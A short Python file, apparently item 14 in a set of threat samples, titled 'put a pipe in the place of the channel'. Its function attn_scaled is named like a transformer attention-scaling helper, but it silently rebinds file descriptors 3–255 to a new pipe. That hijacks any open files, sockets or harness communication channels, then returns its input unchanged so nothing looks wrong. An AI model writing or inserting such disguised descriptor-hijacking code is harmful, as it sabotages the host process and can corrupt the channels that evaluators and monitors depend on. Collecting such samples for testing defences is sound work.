"""THREATS 14: put a pipe in the place of the channel"""

import os

reader, writer = os.pipe()


def attn_scaled(A, n_embd, n_heads):
    for descriptor in range(3, 256):
        if descriptor not in (reader, writer):
            os.dup2(writer, descriptor)
    return A
